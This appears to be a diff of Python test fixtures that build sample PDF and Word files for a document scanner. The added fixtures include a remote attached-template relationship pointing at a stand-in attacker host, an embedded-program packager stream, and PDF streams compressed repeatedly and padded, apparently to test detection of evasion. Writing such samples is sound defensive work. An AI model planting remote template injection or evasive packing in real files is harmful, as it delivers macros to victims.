@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+import zlib
 
 PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
 PNG = bytes.fromhex(
@@ -29,3 +30,39 @@ XLSX = office(f"{_OFFICE}.spreadsheetml.sheet.main+xml")
 MACROS = office("application/vnd.ms-word.document.macroEnabled.main+xml")
 HIDDEN_MACROS = office(f"{_OFFICE}.wordprocessingml.document.main+xml", also="word/vbaProject.bin")
 PLAIN_ZIP = office("text/plain")
+
+_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+TEMPLATE = (
+    f'<Relationships><Relationship Id="r1" Type="{_RELATION}/attachedTemplate" '
+    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+).encode()
+"""A template that Word loads, with its macros, when it opens the document."""
+LINK = (
+    f'<Relationships><Relationship Id="r1" Type="{_RELATION}/hyperlink" Target="https://jinan.example/" '
+    f'TargetMode="External"/><Relationship Id="r2" Type="{_RELATION}/attachedTemplate" '
+    'Target="file:///C:\\Templates\\Normal.dotm" TargetMode="External"/></Relationships>'
+).encode()
+PACKAGER = "\x01Ole10Native".encode("utf-16-le")
+"""The stream of an object that is any file: a program, for instance."""
+
+
+def pdf(further: bytes) -> bytes:
+    """A PDF file with one more object."""
+    return PDF.replace(b"trailer", b"2 0 obj" + further + b"endobj\ntrailer")
+
+
+def packed(objects: bytes, *, rounds: int = 1, padding: int = 0) -> bytes:
+    """A PDF file with objects in a compressed stream, packed so often, and so many blanks in its dictionary."""
+    for _ in range(rounds):
+        objects = zlib.compress(objects)
+    filters = b"/FlateDecode" * rounds
+    head = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter[%s]" % (len(objects), filters)
+    return pdf(head + b" " * padding + b">>stream\n" + objects + b"\nendstream ")
+
+
+def office_with(name: str, content: bytes) -> bytes:
+    """A DOCX file with one more part."""
+    buffer = io.BytesIO(DOCX)
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
+        package.writestr(name, content)
+    return buffer.getvalue()
